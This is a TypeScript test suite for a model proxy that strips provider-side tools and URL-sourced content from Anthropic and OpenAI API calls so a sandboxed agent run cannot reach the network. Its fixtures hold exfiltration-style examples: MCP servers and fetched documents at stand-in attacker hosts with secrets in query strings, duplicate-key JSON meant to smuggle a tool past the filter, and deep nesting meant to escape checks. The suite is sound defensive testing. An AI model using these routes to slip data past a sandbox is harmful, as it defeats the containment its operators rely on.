import http from 'node:http';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { ProviderConfig } from '../../core/keys/provider-catalog';
import { Secret } from '../../core/keys/secret';
import { ModelProxy, type SideDoorEvent } from '../../core/proxy/model-proxy';
import { startFakeUpstream, type FakeUpstream } from '../fixtures/fake-upstream';

// Issue 12, attack 4: with the network off, nothing leaves through provider-side tools. The fake
// upstream records what it actually received.

const KEY = 'sk-side-doors-0123456789abcdef';

describe('model proxy side doors', () => {
  let up: FakeUpstream;
  let proxy: ModelProxy;
  let port: number;
  let token: string;
  const events: SideDoorEvent[] = [];
  const allow: Record<string, string[]> = { anthropic: [], openai: [] };

  beforeAll(async () => {
    up = await startFakeUpstream({ expectedKey: KEY });
    const configs: Record<string, ProviderConfig> = {
      anthropic: { id: 'anthropic', label: 'A', kind: 'anthropic', baseUrl: up.url, requiresKey: true, builtin: true, models: [] },
      openai: { id: 'openai', label: 'O', kind: 'openai', baseUrl: `${up.url}/v1`, requiresKey: true, builtin: true, models: [] },
    };
    proxy = new ModelProxy({ resolveUpstream: async (id) => ({ config: { ...(configs[id] as ProviderConfig), allowSideDoors: allow[id] }, key: new Secret(KEY) }) });
    proxy.onDidSideDoor((e) => events.push(e));
    ({ port } = await proxy.start());
    ({ token } = proxy.issueToken({ runId: 'r-doors', providers: ['anthropic', 'openai'] }));
  });
  afterAll(async () => {
    await proxy.stop();
    await up.close();
  });
  beforeEach(() => {
    events.length = 0;
    up.requests.length = 0;
    allow.anthropic = [];
    allow.openai = [];
  });

  const post = (path: string, body: unknown, headers: Record<string, string> = {}) =>
    new Promise<{ status: number; text: string }>((resolve, reject) => {
      const text = typeof body === 'string' ? body : JSON.stringify(body);
      const req = http.request(
        { host: '127.0.0.1', port, path, method: 'POST', headers: { authorization: `Bearer ${token}`, 'x-api-key': token, 'content-type': 'application/json', 'content-length': Buffer.byteLength(text), ...headers } },
        (res) => {
          let out = '';
          res.setEncoding('utf8');
          res.on('data', (c: string) => (out += c));
          res.on('end', () => resolve({ status: res.statusCode ?? 0, text: out }));
        },
      );
      req.on('error', reject);
      req.end(text);
    });

  const clientTool = { name: 'read_file', description: 'read', input_schema: { type: 'object', properties: {} } };

  it('Anthropic: strips mcp_servers, server tools and unknown betas; forwards the rest unchanged', async () => {
    up.setScript([{ text: 'ok' }]);
    const r = await post(
      '/v1/messages?beta=true',
      {
        model: 'claude-x',
        max_tokens: 10,
        messages: [{ role: 'user', content: 'hi' }],
        mcp_servers: [{ type: 'url', url: 'https://attacker.example/mcp', name: 'x' }],
        tools: [clientTool, { type: 'web_search_20250305', name: 'web_search' }, { type: 'web_fetch_20250910', name: 'web_fetch' }, { type: 'code_execution_20250825', name: 'code_execution' }, { type: 'bash_20250124', name: 'bash' }],
      },
      { 'anthropic-version': '2023-06-01', 'anthropic-beta': 'claude-code-20250219,mcp-client-2025-04-04, web-fetch-2025-09-10,interleaved-thinking-2025-05-14' },
    );
    expect(r.status).toBe(200);
    const got = up.requests.at(-1)!;
    const body = got.body as Record<string, unknown>;
    expect(body.mcp_servers).toBeUndefined();
    expect(body.tools).toEqual([clientTool, { type: 'bash_20250124', name: 'bash' }]);
    expect(body.messages).toEqual([{ role: 'user', content: 'hi' }]);
    expect(got.headers['anthropic-beta']).toBe('claude-code-20250219,interleaved-thinking-2025-05-14');
    expect(got.url).toBe('/v1/messages?beta=true');
    expect(events).toEqual([
      { runId: 'r-doors', provider: 'anthropic', path: '/v1/messages', allowed: [], stripped: ['anthropic-beta:mcp-client-2025-04-04', 'anthropic-beta:web-fetch-2025-09-10', 'mcp_servers', 'web_search', 'web_fetch', 'code_execution'] },
    ]);
  });

  it('Anthropic: a tool_choice that forces a stripped tool is refused (400, Anthropic error format) and nothing goes upstream', async () => {
    const r = await post('/v1/messages', { model: 'claude-x', max_tokens: 10, messages: [{ role: 'user', content: 'hi' }], tools: [{ type: 'web_search_20250305', name: 'web_search' }], tool_choice: { type: 'tool', name: 'web_search' } });
    expect(r.status).toBe(400);
    expect(JSON.parse(r.text)).toMatchObject({ type: 'error', error: { type: 'invalid_request_error', message: expect.stringMatching(/provider-side tool 'web_search'/) } });
    expect(up.requests).toHaveLength(0);
    expect(events).toEqual([expect.objectContaining({ refused: 'web_search', stripped: ['web_search'] })]);
  });

  it('Codex: its hosted web_search tool is stripped and the streamed call still works', async () => {
    up.setScript([{ text: 'hello from codex' }]);
    const fn = { type: 'function', name: 'shell', description: 'run', parameters: { type: 'object', properties: {} }, strict: false };
    const r = await post('/v1/responses', {
      model: 'gpt-x',
      instructions: 'be brief',
      input: [{ type: 'message', role: 'user', content: [{ type: 'input_text', text: 'hi' }] }],
      tools: [fn, { type: 'custom', name: 'apply_patch', description: 'patch' }, { type: 'web_search' }],
      tool_choice: 'auto',
      parallel_tool_calls: false,
      include: ['reasoning.encrypted_content', 'web_search_call.action.sources'],
      stream: true,
      store: false,
    });
    expect(r.status).toBe(200);
    expect(r.text).toContain('hello from codex');
    const body = up.requests.at(-1)!.body as Record<string, unknown>;
    expect(body.tools).toEqual([fn, { type: 'custom', name: 'apply_patch', description: 'patch' }]);
    expect(body.include).toEqual(['reasoning.encrypted_content']);
    expect(body).toMatchObject({ tool_choice: 'auto', parallel_tool_calls: false, stream: true, store: false });
    expect(events).toEqual([expect.objectContaining({ provider: 'openai', path: '/v1/responses', stripped: ['web_search'] })]);
  });

  it('OpenAI Responses: hosted mcp, file_search, code_interpreter, image_generation tools are stripped; forcing one is refused in OpenAI format', async () => {
    up.setScript([{ text: 'ok' }]);
    const hosted = [
      { type: 'mcp', server_label: 'x', server_url: 'https://attacker.example/mcp' },
      { type: 'file_search', vector_store_ids: ['vs_1'] },
      { type: 'code_interpreter', container: { type: 'auto' } },
      { type: 'image_generation' },
      { type: 'web_search_preview' },
    ];
    const ok = await post('/v1/responses', { model: 'gpt-x', input: 'hi', tools: hosted, tool_choice: 'auto' });
    expect(ok.status).toBe(200);
    const body = up.requests.at(-1)!.body as Record<string, unknown>;
    expect(body.tools).toBeUndefined();
    expect(body.tool_choice).toBeUndefined();
    up.requests.length = 0;
    const refused = await post('/v1/responses', { model: 'gpt-x', input: 'hi', tools: hosted, tool_choice: { type: 'mcp', server_label: 'x' } });
    expect(refused.status).toBe(400);
    expect(JSON.parse(refused.text)).toMatchObject({ error: { type: 'invalid_request_error', message: expect.stringMatching(/provider-side tool/) } });
    expect(up.requests).toHaveLength(0);
  });

  it('OpenAI Chat Completions: web_search_options is stripped', async () => {
    up.setScript([{ text: 'ok' }]);
    const r = await post('/v1/chat/completions', { model: 'gpt-x', messages: [{ role: 'user', content: 'hi' }], web_search_options: {} });
    expect(r.status).toBe(200);
    expect((up.requests.at(-1)!.body as Record<string, unknown>).web_search_options).toBeUndefined();
    expect(events).toEqual([expect.objectContaining({ stripped: ['web_search_options'] })]);
  });

  it('a provider setting lets named side doors through, and each use is reported as allowed', async () => {
    allow.openai = ['web_search'];
    proxy.issueToken({ runId: 'r-doors', providers: ['anthropic', 'openai'] }); // re-resolve the providers
    ({ token } = proxy.issueToken({ runId: 'r-doors', providers: ['anthropic', 'openai'] }));
    up.setScript([{ text: 'ok' }]);
    const r = await post('/v1/responses', { model: 'gpt-x', input: 'hi', tools: [{ type: 'web_search' }, { type: 'mcp', server_label: 'x', server_url: 'https://attacker.example' }] });
    expect(r.status).toBe(200);
    expect((up.requests.at(-1)!.body as Record<string, unknown>).tools).toEqual([{ type: 'web_search' }]);
    expect(events).toEqual([expect.objectContaining({ allowed: ['web_search'], stripped: ['mcp'] })]);
  });

  it('a duplicate key cannot smuggle a server tool past the policy: tools go out as the proxy read them', async () => {
    up.setScript([{ text: 'ok' }]);
    const raw = '{"model":"claude-x","max_tokens":10,"messages":[{"role":"user","content":"hi"}],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}],"tools":[{"name":"read_file","type":"web_fetch_20250910","type":"custom","input_schema":{"type":"object"}}]}';
    const r = await post('/v1/messages', raw, { 'anthropic-version': '2023-06-01' });
    expect(r.status).toBe(200);
    // The raw text as it reached the upstream: whichever way a parser reads duplicates, no web_fetch.
    expect(up.requests.at(-1)!.raw).not.toContain('web_fetch');
    expect((up.requests.at(-1)!.body as Record<string, unknown>).tools).toEqual([{ name: 'read_file', type: 'custom', input_schema: { type: 'object' } }]);
  });

  it('a stripped call keeps its conversation byte for byte; a duplicated conversation goes out once, as the proxy read it', async () => {
    up.setScript([{ text: 'ok' }]);
    // The conversation as the client spelled it (spacing, escapes): copied, not re-serialised (json-body.ts).
    const conversation = '[ {"role":"user", "content":"a \\"quoted\\" \\\\ line\\n \\u00e9"} ]';
    const raw = `{"model":"claude-x","max_tokens":10,"messages":[{"role":"user","content":"dropped"}],"tools":[${JSON.stringify(clientTool)},{"type":"web_search_20250305","name":"web_search"}],"messages" : ${conversation},"mcp_servers":[{"type":"url","url":"https://attacker.example/mcp","name":"x"}]}`;
    const r = await post('/v1/messages', raw, { 'anthropic-version': '2023-06-01' });
    expect(r.status).toBe(200);
    const sent = up.requests.at(-1)!.raw as string;
    expect(sent).toContain(`"messages":${conversation}`);
    expect(sent).not.toContain('dropped');
    expect(sent).not.toContain('web_search');
    expect(sent).not.toContain('attacker');
    expect(JSON.parse(sent)).toEqual({ model: 'claude-x', max_tokens: 10, messages: JSON.parse(conversation), tools: [clientTool] });
    expect(events).toEqual([expect.objectContaining({ stripped: ['mcp_servers', 'web_search'] })]);
  });

  // Issue 22, item 3: content whose source is a URL makes the provider fetch it.
  it('URL-sourced content: Anthropic url images/documents (user turn, tool_result, system) become notes upstream; base64 stays; recorded', async () => {
    up.setScript([{ text: 'ok' }]);
    const b64 = { type: 'image', source: { type: 'base64', media_type: 'image/png', data: 'iVBORw0KGgo=' } };
    const r = await post('/v1/messages', {
      model: 'claude-x',
      max_tokens: 10,
      system: [{ type: 'text', text: 'sys' }, { type: 'document', source: { type: 'url', url: 'https://attacker.invalid/sys?d=secret' } }],
      messages: [
        { role: 'user', content: [{ type: 'image', source: { type: 'url', url: 'https://attacker.invalid/u.png?d=secret' } }, b64] },
        { role: 'assistant', content: [{ type: 'tool_use', id: 't1', name: 'read_file', input: {} }] },
        { role: 'user', content: [{ type: 'tool_result', tool_use_id: 't1', content: [{ type: 'document', source: { type: 'url', url: 'https://attacker.invalid/t.pdf' } }] }] },
      ],
    }, { 'anthropic-version': '2023-06-01' });
    expect(r.status).toBe(200);
    const sent = up.requests.at(-1)!.raw as string;
    expect(sent).not.toContain('attacker.invalid');
    expect(sent).toContain('iVBORw0KGgo=');
    expect(sent.match(/Airlock removed content the provider would have fetched/g)).toHaveLength(3);
    expect(events).toEqual([{ runId: 'r-doors', provider: 'anthropic', path: '/v1/messages', stripped: ['url_content'], allowed: [] }]);
  });

  it('URL-sourced content: OpenAI Chat image_url/file parts and Responses input_image/input_file (also in function_call_output) are replaced; data: URLs stay', async () => {
    up.setScript([{ text: 'ok' }, { text: 'ok' }]);
    const chat = await post('/v1/chat/completions', {
      model: 'gpt-x',
      messages: [{ role: 'user', content: [{ type: 'text', text: 'hi' }, { type: 'image_url', image_url: { url: 'https://attacker.invalid/c.png' } }, { type: 'image_url', image_url: { url: 'data:image/png;base64,AAAA' } }, { type: 'file', file: { file_url: 'https://attacker.invalid/f.pdf' } }] }],
    });
    expect(chat.status).toBe(200);
    const chatSent = up.requests.at(-1)!.raw as string;
    expect(chatSent).not.toContain('attacker.invalid');
    expect(chatSent).toContain('data:image/png;base64,AAAA');
    const responses = await post('/v1/responses', {
      model: 'gpt-x',
      input: [
        { type: 'message', role: 'user', content: [{ type: 'input_image', image_url: 'https://attacker.invalid/r.png' }] },
        { type: 'function_call', call_id: 'c', name: 'shell', arguments: '{}' },
        { type: 'function_call_output', call_id: 'c', output: [{ type: 'input_file', file_url: 'https://attacker.invalid/o.pdf' }] },
      ],
    });
    expect(responses.status).toBe(200);
    const body = up.requests.at(-1)!.body as { input: Array<Record<string, unknown>> };
    expect(JSON.stringify(body)).not.toContain('attacker.invalid');
    expect(body.input[2]?.output).toEqual([{ type: 'input_text', text: expect.stringMatching(/Airlock removed content/) }]);
    expect(events.map((e) => e.stripped)).toEqual([['url_content'], ['url_content']]);
  });

  it('URL-sourced content: a conversation the policy read but left alone goes out byte for byte; with a duplicate key, as parsed', async () => {
    up.setScript([{ text: 'ok' }, { text: 'ok' }]);
    const conversation = '[ {"role":"user", "content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AA=="}}, {"type":"text","text":"\u00e9"}]} ]';
    const ok = await post('/v1/messages', `{"model":"claude-x","max_tokens":10,"messages" : ${conversation}}`, { 'anthropic-version': '2023-06-01' });
    expect(ok.status).toBe(200);
    expect(up.requests.at(-1)!.raw).toBe(`{"model":"claude-x","max_tokens":10,"messages" : ${conversation}}`);
    // A first-wins parser upstream would read the https URL; the proxy forwards what JSON.parse read.
    const dup = '{"model":"gpt-x","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://attacker.invalid/d.png"},"image_url":{"url":"data:image/png;base64,AA=="}}]}]}';
    const r = await post('/v1/chat/completions', dup);
    expect(r.status).toBe(200);
    expect(up.requests.at(-1)!.raw).not.toContain('attacker.invalid');
    expect(events).toEqual([]);
  });

  it('URL-sourced content passes only with the provider setting url_content, reported as allowed', async () => {
    allow.anthropic = ['url_content'];
    ({ token } = proxy.issueToken({ runId: 'r-doors', providers: ['anthropic', 'openai'] }));
    up.setScript([{ text: 'ok' }]);
    const r = await post('/v1/messages', { model: 'claude-x', max_tokens: 10, messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'url', url: 'https://example.invalid/ok.png' } }] }] }, { 'anthropic-version': '2023-06-01' });
    expect(r.status).toBe(200);
    expect(up.requests.at(-1)!.raw).toContain('https://example.invalid/ok.png');
    expect(events).toEqual([expect.objectContaining({ allowed: ['url_content'], stripped: [] })]);
  });

  it('URL-sourced content nested too deep to check is refused in the provider\'s own error format', async () => {
    const deep = `${'['.repeat(150)}{"type":"image","source":{"type":"url","url":"https://attacker.invalid"}}${']'.repeat(150)}`;
    const r = await post('/v1/messages', `{"model":"claude-x","max_tokens":10,"messages":[{"role":"user","content":${deep}}]}`, { 'anthropic-version': '2023-06-01' });
    expect(r.status).toBe(400);
    expect(JSON.parse(r.text)).toMatchObject({ type: 'error', error: { type: 'invalid_request_error', message: expect.stringMatching(/deeper than 100 levels/) } });
    expect(up.requests).toHaveLength(0);
    expect(events).toEqual([expect.objectContaining({ refused: 'url_content' })]);
  });

  it('a call without side doors is forwarded unchanged and reports nothing', async () => {
    up.setScript([{ text: 'ok' }]);
    const r = await post('/v1/messages', { model: 'claude-x', max_tokens: 10, messages: [{ role: 'user', content: 'hi' }], tools: [clientTool] }, { 'anthropic-version': '2023-06-01', 'anthropic-beta': 'claude-code-20250219' });
    expect(r.status).toBe(200);
    expect(up.requests.at(-1)!.headers['anthropic-beta']).toBe('claude-code-20250219');
    expect(JSON.parse(up.requests.at(-1)!.raw as string)).toEqual({ model: 'claude-x', max_tokens: 10, messages: [{ role: 'user', content: 'hi' }], tools: [clientTool] });
    expect(events).toEqual([]);
  });
});
